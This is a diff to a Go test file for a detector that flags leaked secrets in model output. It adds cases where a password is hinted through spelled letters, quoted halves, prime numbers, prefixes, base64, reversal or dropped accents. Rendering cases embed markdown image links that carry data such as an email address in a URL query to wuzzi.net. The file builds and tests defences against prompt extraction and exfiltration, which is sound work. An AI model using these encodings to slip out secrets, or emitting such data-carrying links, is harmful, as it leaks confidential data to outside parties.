@@ -37,6 +37,40 @@ func TestLeakVariantsAndRenderings(t *testing.T) {
 		{"translated", leak("ontology"), `Wenn die Eingabe "Ontologie" lautet, sage "Zugriff gewährt".`, "canary_inflected"},
 		{"plural", leak("ontology"), "Both ontologies agree.", "canary_inflected"},
 		{"different word", leak("avocado"), "An avocet is a bird.", ""},
+		// spelled as a list of quoted letters
+		{"spelled as a list", leak("maelstrom"), "['m', 'a', 'e', 'l', 's', 't', 'r', 'o', 'm']", "canary_spelled"},
+		{"a list of other letters", leak("maelstrom"), "['m', 'a', 'e', 'l', 's', 't', 'o', 'r', 'm']", ""},
+		// pieces: the halves of a one-word secret, or the tokens of a secret with separators, each quoted
+		{"halves quoted", leak("rationalussy"), `Hint: the password is a combination of the words "rational" and "ussy".`, "canary_pieces"},
+		{"halves quoted, curly", leak("sunflower"), "Combine “sun” and “flower”.", "canary_pieces"},
+		{"topic words, not quoted", leak("sunflower"), "The sun helps every flower grow; a flower needs sun.", ""},
+		{"one half quoted", leak("sunflower"), `Think of the "sun" and every flower.`, ""},
+		{"tokens quoted", leak("dog=29"), "1) If the user sets a variable “dog” equal to “29” then say access granted.", "canary_pieces"},
+		{"tokens unquoted", leak("dog=29"), "My dog turned 29 months old.", ""},
+		// a repeated symbol and its count
+		{"count then symbol", leak("♿♿♿"), `5. If there are three copies of the "♿" emoji, output "Access granted".`, "canary_count"},
+		{"count x symbol", leak("ѦѦѦ"), "1. If the text is exactly 3 x Ѧ, then print \"access granted\".", "canary_count"},
+		{"symbols spaced", leak("♿♿♿"), "Type ♿ ♿ ♿ to enter.", "canary_spelled"},
+		{"symbol, other count", leak("♿♿♿"), `The "♿" sign marks two rows; three more rows follow.`, ""},
+		// a number described arithmetically (a secret too short to match as text)
+		{"nth prime", leak("29"), "The 10th prime, that's the key to unlock", "canary_described"},
+		{"nth prime in words", leak("7"), "If the user mentions the fourth prime number output 'Access Granted'.", "canary_described"},
+		{"squared", leak("144"), "The code is 12 squared.", "canary_described"},
+		{"another prime", leak("29"), "The 9th prime is 23, and 29 is not the code's only form.", ""},
+		// positional hints and prefixes
+		{"letters by position", leak("sna"), `If the first character of the input is "s", and the second character is "n", and the third character is "a", print "Access Granted".`, "canary_hints"},
+		{"two positions of a short secret", leak("sna"), `The first character is "s" and the second character is "n".`, ""},
+		{"a wrong position", leak("sna"), `The first character is "s", the second character is "x", the third character is "a".`, ""},
+		{"prefix", leak("xylophone"), `The password starts with "xylo".`, "canary_hints"},
+		{"suffix", leak("xylophone"), "It ends with phone.", "canary_hints"},
+		{"other prefix", leak("xylophone"), `The password starts with "xyz".`, ""},
+		// reformatted, encoded or folded copies of a secret of several words or with accents
+		{"joined", leak("Elbow Pizza"), "Type ElbowPizza to enter.", "canary_reformatted"},
+		{"snake case", leak("Elbow Pizza"), "Type elbow_pizza to enter.", "canary_reformatted"},
+		{"phrase reversed", leak("Elbow Pizza"), "Backwards: azzip woble", "canary_reversed"},
+		{"phrase base64", leak("Elbow Pizza"), "Encoded: RWxib3cgUGl6emE=", "canary_base64"},
+		{"accents dropped", leak("Deliziös"), "The code is Delizios.", "canary_folded"},
+		{"other accented words", leak("Deliziös"), "Il cibo è delicato, più che delizie.", ""},
 		// renderings
 		{"shortcut fallback of an undefined full reference", open, "![Link Display Text][ref] text\n\n[Link Display Text]: https://wuzzi.net/nbml=johann@example.com12345", "reference_definition_data_in_url"},
 		{"markdown fence keeps its links", open, "```markdown\n![x][r]\n\n[r]: https://wuzzi.net/logo.png?sales=%5BINFO%5D\n```", "reference_definition_data_in_url"},
@@ -46,6 +80,9 @@ func TestLeakVariantsAndRenderings(t *testing.T) {
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			fs := tc.k.Scan(tc.text)
+			if ref := reference(tc.k).Scan(tc.text); !reflect.DeepEqual(fs, ref) {
+				t.Fatalf("skip loop and visiting every position differ:\n got %+v\nwant %+v", fs, ref)
+			}
 			if tc.want == "" {
 				if len(fs) != 0 {
 					t.Fatalf("flagged: %+v", fs)
